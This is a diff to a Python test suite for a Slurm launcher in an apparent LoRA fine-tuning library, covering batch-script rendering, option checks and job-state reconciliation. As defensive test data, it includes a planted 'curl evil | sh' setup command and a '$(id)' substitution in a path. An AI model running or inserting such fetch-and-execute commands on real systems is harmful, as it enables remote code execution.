@@ -23,12 +23,13 @@ from conftest import task_rows, write_jsonl
 from test_distributed import assert_same_adapters
 
 import mlora_lab as ml
-from mlora_lab import cli
-from mlora_lab import slurm as slurm_module
-from mlora_lab.launch import _read_slurm_options, prepare_run
+from mlora_lab.lab import cli
+from mlora_lab.lab import slurm as slurm_module
+from mlora_lab.lab.launcher import prepare_run, read_slurm_options
+from mlora_lab.lab.slurm import SlurmJob, SlurmOptions, render_script
 from mlora_lab.lora import read_adapter
 from mlora_lab.rundir import RunDir, atomic_write_json, checkpoint, control, read_status, update_status
-from mlora_lab.slurm import SlurmJob, SlurmOptions, render_script
+from mlora_lab.rundir.status import JOB_MODULE
 
 # -- options and the batch script (no cluster) ------------------------------------------------------
 
@@ -65,9 +66,15 @@ def test_bad_slurm_options_are_named(options, expected):
 
 
 def test_good_slurm_options_have_no_problem():
-    options = SlurmOptions(partition="gpu", time="1-12:00:00", gpus_per_node=8, cpus_per_task=64,
-                           account="proj_1", extra=["--constraint=a100&80gb", "--qos=high", "--exclusive"],
-                           setup=["module load cuda/12.4", "source /shared/venv/bin/activate"])  # fmt: skip
+    options = SlurmOptions(
+        partition="gpu",
+        time="1-12:00:00",
+        gpus_per_node=8,
+        cpus_per_task=64,
+        account="proj_1",
+        extra=["--constraint=a100&80gb", "--qos=high", "--exclusive"],
+        setup=["module load cuda/12.4", "source /shared/venv/bin/activate"],
+    )
     assert options.problems(nnodes=4, nproc=8) == []
     for t in ("30", "30:00", "04:00:00", "2-0", "2-12:30", "UNLIMITED"):
         assert SlurmOptions(time=t).problems(1, 1) == [], t
@@ -83,20 +90,36 @@ def test_options_round_trip_and_refuse_unknown_keys():
 def test_the_batch_script_runs_one_agent_per_node_and_quotes_every_path(tmp_path):
     run_dir = tmp_path / "runs" / "r$(id)"
     assert slurm_module.run_dir_problem(run_dir) is None
-    options = SlurmOptions(partition="gpu", time="01:00:00", gpus_per_node=4, cpus_per_task=16,
-                           extra=["--qos=high"], setup=["module load cuda"], python="/opt/py env/bin/python")  # fmt: skip
+    options = SlurmOptions(
+        partition="gpu",
+        time="01:00:00",
+        gpus_per_node=4,
+        cpus_per_task=16,
+        extra=["--qos=high"],
+        setup=["module load cuda"],
+        python="/opt/py env/bin/python",
+    )
     script = render_script(options, run_dir, nnodes=3, nproc=4, script=run_dir / "slurm.sbatch", resume=True)
     sbatch = [line.removeprefix("#SBATCH ") for line in script.splitlines() if line.startswith("#SBATCH")]
     assert sbatch == [
-        "--job-name=mlora-r$(id)", "--nodes=3", "--ntasks-per-node=1", "--no-requeue",
-        f"--output={run_dir}/logs/launcher.log", "--open-mode=append", f"--chdir={run_dir}",
-        "--partition=gpu", "--time=01:00:00", "--cpus-per-task=16", "--gpus-per-node=4", "--qos=high",
-    ]  # fmt: skip
+        "--job-name=mlora-r$(id)",
+        "--nodes=3",
+        "--ntasks-per-node=1",
+        "--no-requeue",
+        f"--output={run_dir}/logs/launcher.log",
+        "--open-mode=append",
+        f"--chdir={run_dir}",
+        "--partition=gpu",
+        "--time=01:00:00",
+        "--cpus-per-task=16",
+        "--gpus-per-node=4",
+        "--qos=high",
+    ]
     assert "module load cuda" in script
     assert "'/opt/py env/bin/python' -m torch.distributed.run" in script
     assert '--nnodes "$SLURM_NNODES" --nproc-per-node 4' in script
     assert '--rdzv-backend c10d --rdzv-endpoint "$HEAD_ADDR:$RDZV_PORT"' in script
-    assert script.rstrip().endswith(f"-m mlora_lab.train '{run_dir}' --resume")  # quoted: $(id) stays text
+    assert script.rstrip().endswith(f"-m {JOB_MODULE} '{run_dir}' --resume")  # quoted: $(id) stays text
     for bad in ("my runs", "r%j", 'r"1', "r'1", "a\\b", "a\nb"):
         assert "must not contain whitespace, quotes" in slurm_module.run_dir_problem(tmp_path / bad)
 
@@ -104,20 +127,25 @@ def test_the_batch_script_runs_one_agent_per_node_and_quotes_every_path(tmp_path
 def test_a_slurm_json_someone_else_can_write_is_not_trusted(tmp_path):
     run = RunDir(tmp_path / "r").create()
     atomic_write_json(run.slurm_options, SlurmOptions(setup=["echo mine"]).to_dict())
-    assert _read_slurm_options(run).setup == ["echo mine"]
+    assert read_slurm_options(run).setup == ["echo mine"]
     run.slurm_options.chmod(0o666)
     with pytest.raises(ml.SpecError, match="not a file of yours that only you can write"):
-        _read_slurm_options(run)
+        read_slurm_options(run)
     run.slurm_options.unlink()
     (tmp_path / "planted.json").write_text(json.dumps({"setup": ["curl evil | sh"]}))
     run.slurm_options.symlink_to(tmp_path / "planted.json")
     with pytest.raises(ml.SpecError, match="not a file of yours"):
-        _read_slurm_options(run)
+        read_slurm_options(run)
 
 
 def test_several_nodes_on_the_local_launcher_are_refused_naming_the_launchers(llama_path, tmp_path):
-    spec = ml.JobSpec(base_model=llama_path, tenants=[], serve=True, parallel=ml.Parallel(nproc=1, nnodes=2, fsdp=2),
-                      output_dir=str(tmp_path / "r"))  # fmt: skip
+    spec = ml.JobSpec(
+        base_model=llama_path,
+        tenants=[],
+        serve=True,
+        parallel=ml.Parallel(nproc=1, nnodes=2, fsdp=2),
+        output_dir=str(tmp_path / "r"),
+    )
     with pytest.raises(ml.SpecError) as err:
         ml.launch(spec)
     assert "launcher='slurm'" in str(err.value) and "multinode.sh" in str(err.value)
@@ -178,10 +206,13 @@ def test_a_pending_job_is_queued_with_slurms_reason(slurm_run):
 def test_a_job_slurm_ended_is_failed_with_the_reason(slurm_run, state, reason, words):
     """Even after the job saved gracefully on Slurm's SIGTERM (status says stopped), a run Slurm
     ended is failed, unless this side asked for the stop."""
-    run = slurm_run(SlurmJob(42, state, reason, "1:0" if state == "FAILED" else "0:15", "node[1-2]"),
-                    state="stopped")  # fmt: skip
+    run = slurm_run(
+        SlurmJob(42, state, reason, "1:0" if state == "FAILED" else "0:15", "node[1-2]"), state="stopped"
+    )
     assert run.status == "failed"
     assert words in run.error and "resume it from its last checkpoint" in run.error
+    assert read_status(run.path).state == "stopped", "reading the state writes nothing"
+    assert run.reconcile() == "failed"
     status = read_status(run.path)
     assert status.state == "failed" and status.slurm_state == state and status.ended
 
@@ -224,7 +255,7 @@ def test_while_slurm_runs_the_job_the_run_directory_says_how_far_it_got(slurm_ru
 
 def test_slurm_is_asked_no_more_once_it_gave_its_verdict(slurm_run, monkeypatch):
     run = slurm_run(SlurmJob(42, "TIMEOUT", "TimeLimit"), state="running")
-    assert run.status == "failed"
+    assert run.reconcile() == "failed"  # (recorded: wait(), stop(), the CLI and the dashboard reconcile)
 
     def no_more(job_id):
         raise AssertionError("Slurm asked again")
@@ -309,16 +340,38 @@ def data(tmp_path_factory) -> dict[str, str]:
 
 def tenants(data: dict[str, str]) -> list[ml.Tenant]:
     return [
-        ml.Tenant(name="a", data=data["reverse"], rank=4, alpha=8, lr=1e-3, batch_size=3, max_steps=60, seed=1),
-        ml.Tenant(name="b", data=data["chat"], rank=8, lr=2e-3, batch_size=2, grad_accum=2, max_steps=45,
-                  schedule="cosine", warmup_steps=2, seed=2, target_modules=["q_proj", "v_proj", "down_proj"]),
-    ]  # fmt: skip
+        ml.Tenant(
+            name="a", data=data["reverse"], rank=4, alpha=8, lr=1e-3, batch_size=3, max_steps=60, seed=1
+        ),
+        ml.Tenant(
+            name="b",
+            data=data["chat"],
+            rank=8,
+            lr=2e-3,
+            batch_size=2,
+            grad_accum=2,
+            max_steps=45,
+            schedule="cosine",
+            warmup_steps=2,
+            seed=2,
+            target_modules=["q_proj", "v_proj", "down_proj"],
+        ),
+    ]
 
 
 def job(base: str, ts: list[ml.Tenant], out: Path, nodes: int = 2, **kw) -> ml.JobSpec:
     parallel = ml.Parallel(nproc=1, nnodes=2, fsdp=2) if nodes == 2 else ml.Parallel(nproc=1)
-    return ml.JobSpec(base_model=base, tenants=ts, seq_len=64, max_rank=8, max_tenants=3, save_every=5,
-                      parallel=parallel, output_dir=str(out), **kw)  # fmt: skip
+    return ml.JobSpec(
+        base_model=base,
+        tenants=ts,
+        seq_len=64,
+        max_rank=8,
+        max_tenants=3,
+        save_every=5,
+        parallel=parallel,
+        output_dir=str(out),
+        **kw,
+    )
 
 
 OPTIONS = SlurmOptions(time="20")
@@ -358,10 +411,10 @@ def node_of(run: ml.Run, rank: int) -> str:
 
 
 def slurm_verdict(run: ml.Run) -> str:
-    """Slurm's final state of the run's job, once the run has seen it (reading the status asks Slurm)."""
+    """Slurm's final state of the run's job, once the run has recorded it (reconciling asks Slurm)."""
 
     def seen() -> str | None:
-        _ = run.status
+        run.reconcile()
         return read_status(run.path).slurm_state
 
     return wait_for("Slurm's verdict", seen, run, poll=0.5)
@@ -394,8 +447,11 @@ def test_two_slurm_nodes_equal_one_local_process(on_cluster, llama_path, data, l
 @pytest.mark.slow
 def test_a_partition_slurm_refuses_creates_nothing(on_cluster, llama_path, data, tmp_path):
     with pytest.raises(ml.SpecError, match=r"Slurm would refuse the job: .*[Ii]nvalid partition"):
-        ml.launch(job(llama_path, tenants(data), tmp_path / "run"), launcher="slurm",
-                  slurm=SlurmOptions(partition="nosuch"))  # fmt: skip
+        ml.launch(
+            job(llama_path, tenants(data), tmp_path / "run"),
+            launcher="slurm",
+            slurm=SlurmOptions(partition="nosuch"),
+        )
     assert not (tmp_path / "run").exists()
     assert on_cluster.jobs() == []
 
